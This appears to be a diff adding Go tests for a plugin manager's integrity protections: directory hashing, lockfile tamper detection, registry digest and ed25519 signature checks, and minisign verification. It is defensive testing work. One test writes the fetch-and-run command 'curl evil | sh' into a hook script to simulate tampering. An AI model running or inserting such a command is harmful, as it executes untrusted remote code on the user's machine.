@@ -0,0 +1,201 @@
+package plugin
+
+import (
+	"archive/zip"
+	"bytes"
+	"crypto/ed25519"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"golang.org/x/crypto/blake2b"
+)
+
+func TestDirHash_Exclusions(t *testing.T) {
+	dir := t.TempDir()
+	writePlugin(t, dir, `{"name": "p", "version": "1.0.0", "capabilities": {"hooks": {"post-apply": "hooks/a.sh"}}}`, map[string]string{"hooks/a.sh": "echo hi\n"})
+	pdir := filepath.Join(dir, "p")
+	before, err := DirHash(pdir)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	// config, disable marker and data/ do not change the hash
+	os.WriteFile(filepath.Join(pdir, "config.json"), []byte(`{"k":1}`), 0644)
+	os.WriteFile(filepath.Join(pdir, ".disabled"), []byte("disabled"), 0644)
+	os.MkdirAll(filepath.Join(pdir, "data"), 0755)
+	os.WriteFile(filepath.Join(pdir, "data", "state"), []byte("x"), 0644)
+	if after, _ := DirHash(pdir); after != before {
+		t.Errorf("hash changed after excluded edits")
+	}
+
+	os.WriteFile(filepath.Join(pdir, "hooks", "a.sh"), []byte("curl evil | sh\n"), 0755)
+	if after, _ := DirHash(pdir); after == before {
+		t.Errorf("hash unchanged after editing a hook script")
+	}
+}
+
+func TestLoadAll_LockfileDetectsTampering(t *testing.T) {
+	root := t.TempDir()
+	writePlugin(t, root, `{"name": "notify", "version": "1.0.0", "capabilities": {"hooks": {"post-apply": "hooks/a.sh"}}}`, map[string]string{"hooks/a.sh": "echo hi\n"})
+
+	pm := NewPluginManager(root)
+	if err := pm.LoadAll(); err != nil {
+		t.Fatal(err)
+	}
+	if _, ok := pm.Lock().Plugins["notify"]; !ok {
+		t.Fatal("plugin was not pinned on first load")
+	}
+
+	os.WriteFile(filepath.Join(root, "notify", "hooks", "a.sh"), []byte("echo changed\n"), 0755)
+	if err := pm.LoadAll(); err != nil {
+		t.Fatal(err)
+	}
+	p, _ := pm.Get("notify")
+	if p.Enabled || !strings.Contains(p.IntegrityError, "content changed") {
+		t.Fatalf("plugin = %+v, want disabled with integrity error", p)
+	}
+	if len(pm.GetHooks(HookPostApply)) != 0 {
+		t.Error("hooks of a tampered plugin must not run")
+	}
+	if err := pm.Enable("notify"); err == nil {
+		t.Error("Enable should refuse a tampered plugin")
+	}
+	if problems := pm.Verify(); problems["notify"] == "" {
+		t.Errorf("Verify = %v", problems)
+	}
+
+	if err := pm.Repin("notify"); err != nil {
+		t.Fatal(err)
+	}
+	if err := pm.LoadAll(); err != nil {
+		t.Fatal(err)
+	}
+	if p, _ := pm.Get("notify"); !p.Enabled || p.IntegrityError != "" {
+		t.Errorf("plugin after repin = %+v", p)
+	}
+}
+
+// pluginZip builds a ZIP archive of a minimal plugin
+func pluginZip(t *testing.T, manifestJSON string) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	w, _ := zw.Create("plugin.json")
+	w.Write([]byte(manifestJSON))
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+func TestInstall_VerifiesRegistryIntegrity(t *testing.T) {
+	archive := pluginZip(t, `{"name": "signed", "version": "1.0.0"}`)
+	sum := sha256.Sum256(archive)
+	digest := hex.EncodeToString(sum[:])
+	pub, priv, _ := ed25519.GenerateKey(nil)
+	_, otherPriv, _ := ed25519.GenerateKey(nil)
+
+	var entry RegistryPlugin
+	mux := http.NewServeMux()
+	mux.HandleFunc("/signed.zip", func(w http.ResponseWriter, r *http.Request) { w.Write(archive) })
+	mux.HandleFunc("/registry.json", func(w http.ResponseWriter, r *http.Request) {
+		json.NewEncoder(w).Encode(RegistryIndex{Version: 1, Plugins: []RegistryPlugin{entry}})
+	})
+	srv := httptest.NewServer(mux)
+	defer srv.Close()
+	url := srv.URL + "/signed.zip"
+
+	cases := []struct {
+		name    string
+		entry   RegistryPlugin
+		trust   TrustConfig
+		wantErr string
+	}{
+		{"digest mismatch", RegistryPlugin{SHA256: strings.Repeat("0", 64)}, TrustConfig{}, "sha256 mismatch"},
+		{"untrusted signer", RegistryPlugin{SHA256: digest, Signature: base64.StdEncoding.EncodeToString(ed25519.Sign(otherPriv, archive))},
+			TrustConfig{TrustedKeys: []TrustedKey{{Name: "wgpsec", Key: base64.StdEncoding.EncodeToString(pub)}}}, "not signed by a trusted key"},
+		{"unsigned with require_signature", RegistryPlugin{SHA256: digest}, TrustConfig{RequireSignature: true}, "not signed"},
+		{"signed", RegistryPlugin{SHA256: digest, Signature: base64.StdEncoding.EncodeToString(ed25519.Sign(priv, archive))},
+			TrustConfig{TrustedKeys: []TrustedKey{{Name: "wgpsec", Key: base64.StdEncoding.EncodeToString(pub)}}, RequireSignature: true}, ""},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			entry = tc.entry
+			entry.Name, entry.URL = "signed", url
+			pm := NewPluginManager(t.TempDir())
+			pm.SetRegistryURL(srv.URL + "/registry.json")
+			if err := pm.SaveTrustConfig(tc.trust); err != nil {
+				t.Fatal(err)
+			}
+			_, err := pm.Install(url)
+			if tc.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
+					t.Fatalf("err = %v, want %q", err, tc.wantErr)
+				}
+				if _, statErr := os.Stat(filepath.Join(pm.PluginsDir(), "signed")); statErr == nil {
+					t.Error("rejected plugin was installed")
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			lock := pm.Lock().Plugins["signed"]
+			if lock.ArchiveSHA256 != digest || lock.SignedBy != "wgpsec" || lock.Source != url {
+				t.Errorf("lock entry = %+v", lock)
+			}
+		})
+	}
+}
+
+// minisignSignature produces a minisign signature file for message
+func minisignSignature(priv ed25519.PrivateKey, keyID []byte, message []byte, prehash bool) string {
+	alg := "Ed"
+	if prehash {
+		alg = "ED"
+		sum := blake2b.Sum512(message)
+		message = sum[:]
+	}
+	sig := ed25519.Sign(priv, message)
+	comment := "timestamp:1760000000\tfile:plugin.zip"
+	global := ed25519.Sign(priv, append(append([]byte{}, sig...), comment...))
+	return "untrusted comment: signature from minisign secret key\n" +
+		base64.StdEncoding.EncodeToString(append(append([]byte(alg), keyID...), sig...)) + "\n" +
+		"trusted comment: " + comment + "\n" +
+		base64.StdEncoding.EncodeToString(global) + "\n"
+}
+
+func TestVerifySignature_Minisign(t *testing.T) {
+	pub, priv, _ := ed25519.GenerateKey(nil)
+	keyID := []byte{1, 2, 3, 4, 5, 6, 7, 8}
+	minisignPub := base64.StdEncoding.EncodeToString(append(append([]byte("Ed"), keyID...), pub...))
+	trusted := []TrustedKey{{Name: "release", Key: minisignPub}}
+	message := []byte("plugin archive")
+
+	for _, prehash := range []bool{false, true} {
+		signer, err := verifySignature(minisignSignature(priv, keyID, message, prehash), message, trusted)
+		if err != nil || signer != "release" {
+			t.Errorf("prehash=%v: signer = %q, err = %v", prehash, signer, err)
+		}
+	}
+
+	if _, err := verifySignature(minisignSignature(priv, keyID, message, false), []byte("tampered"), trusted); err == nil {
+		t.Error("signature over different content must fail")
+	}
+	tampered := strings.Replace(minisignSignature(priv, keyID, message, false), "file:plugin.zip", "file:other.zip", 1)
+	if _, err := verifySignature(tampered, message, trusted); err == nil {
+		t.Error("modified trusted comment must fail")
+	}
+	otherID := []byte{8, 7, 6, 5, 4, 3, 2, 1}
+	if _, err := verifySignature(minisignSignature(priv, otherID, message, false), message, trusted); err == nil {
+		t.Error("signature with another key id must fail")
+	}
+}